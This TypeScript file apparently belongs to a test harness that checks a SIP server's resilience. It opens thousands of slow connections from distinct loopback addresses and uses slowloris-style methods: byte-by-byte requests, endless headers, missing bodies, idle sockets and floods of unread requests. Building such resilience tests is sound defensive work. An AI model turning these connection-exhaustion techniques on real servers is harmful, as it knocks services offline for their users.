/** In a thread: connections that are slow on purpose, each from an address of its own. */
import { connect, type Socket } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import { report, wanted } from "./attacker.ts";
import { SIP } from "./stage.ts";
import { requestText } from "./stranger.ts";

export interface Dribbling {
  readonly connections: number;
  /** Until when whoever was hung up on comes back, in ms from the start. */
  readonly insistMs: number;
  /** For how long to stay at most. */
  readonly stayMs: number;
}

export interface Dribbled {
  readonly opened: number;
  readonly refused: number;
  /** How they were ended by the other side, by what they did. */
  readonly closed: Readonly<Record<string, number>>;
  /** Connections that are still open, by what they do. */
  readonly left: Readonly<Record<string, number>>;
  /** Who asked much and read nothing, and how many of them were cut off before the last answer. */
  readonly greedy: number;
  readonly cutOff: number;
}

type Way = (socket: Socket, nth: number) => void;

const via = "TCP 127.0.0.1:9";
const question = (nth: number | string): string => requestText({ method: "OPTIONS", nth, via });
/** The answers to so many fill the buffers of both ends and what the program keeps for a peer. */
const UNREAD = 2000;
/** So many of so many connections ask that much; the others ask once. */
const [GREEDY, GREEDY_EVERY] = [5, 100];
/** When whoever did not read looks whether anybody is still there, and in twice that the silent. */
const LOOKS_MS = 31_000;

/** Does something again and again for as long as the connection is open. */
function again(socket: Socket, everyMs: number, run: (nth: number) => void): void {
  let nth = 0;
  const timer = setInterval(() => run(nth++), everyMs);
  socket.once("close", () => clearInterval(timer));
}

const UNREADING = "questions without reading";

const WAYS: Readonly<Record<string, Way>> = {
  "one octet now and then": (socket, nth) => {
    const text = question(nth);
    again(socket, 1500, (at) => socket.write(text.charAt(at)));
  },
  "a header that never ends": (socket, nth) => {
    socket.write(question(nth).slice(0, -2));
    again(socket, 1000, (at) => socket.write(`X-${at}: ${"x".repeat(200)}\r\n`));
  },
  "a body that never comes": (socket, nth) => {
    socket.write(question(nth).replace("Content-Length: 0", "Content-Length: 5000"));
    again(socket, 2000, () => socket.write("x"));
  },
  "not a word": (socket) => {
    // Where the system's own queue was full, only this end believes that there is a connection.
    const look = setTimeout(() => socket.write("\r\n"), 2 * LOOKS_MS);
    socket.once("close", () => clearTimeout(look));
  },
  [UNREADING]: (socket, nth) => {
    socket.pause();
    const isGreedy = nth % GREEDY_EVERY < GREEDY;
    const asked = isGreedy ? UNREAD : 1;
    let answers = 0;
    socket.on("data", (bytes) => {
      answers += bytes.toString("latin1").split("SIP/2.0 407 ").length - 1;
    });
    socket.once("close", () => {
      if (isGreedy && answers < asked) cutOff++;
      if (isGreedy) greedy++;
    });
    for (let i = 0; i < asked; i++) socket.write(question(`${nth}-${i}`));
    // Who does not read does not see either that it was hung up on: at last it looks.
    setTimeout(() => socket.resume(), LOOKS_MS);
  },
};

const { connections, insistMs, stayMs } = wanted<Dribbling>();
/** A thread's clock begins with the process, which other attacks may have had for minutes. */
const startMs = performance.now();
const elapsedMs = (): number => performance.now() - startMs;
const counts = { opened: 0, refused: 0 };
const closed: Record<string, number> = {};
const ways = Object.entries(WAYS);
const left: Record<string, number> = {};
let [open, greedy, cutOff] = [0, 0, 0];

function dribble(nth: number): void {
  const [name, way] = ways[nth % ways.length] ?? ["", () => {}];
  // Numbers ending in .0 and .255 are addresses like others on a loopback interface.
  const localAddress = `127.${1 + (nth >> 16)}.${(nth >> 8) & 255}.${nth & 255}`;
  const socket = connect({ ...SIP, localAddress });
  let isOpen = false;
  socket.once("connect", () => {
    isOpen = true;
    open++;
    left[name] = (left[name] ?? 0) + 1;
    counts.opened++;
    way(socket, nth);
    if (name !== UNREADING) socket.resume();
  });
  socket.on("error", () => {});
  socket.once("close", () => {
    if (isOpen) {
      open--;
      left[name] = (left[name] ?? 0) - 1;
    }
    if (!isOpen) counts.refused++;
    else closed[name] = (closed[name] ?? 0) + 1;
    if (elapsedMs() < insistMs) setTimeout(() => dribble(nth), 1000);
  });
}

for (let nth = 0; nth < connections; nth++) {
  dribble(nth);
  // No faster than they are let in, or the system's own queue would refuse them.
  if (nth % 50 === 49) await pause(50);
}
while (elapsedMs() < insistMs || (open > 0 && elapsedMs() < stayMs)) await pause(100);
report({ ...counts, closed, left, greedy, cutOff } satisfies Dribbled);
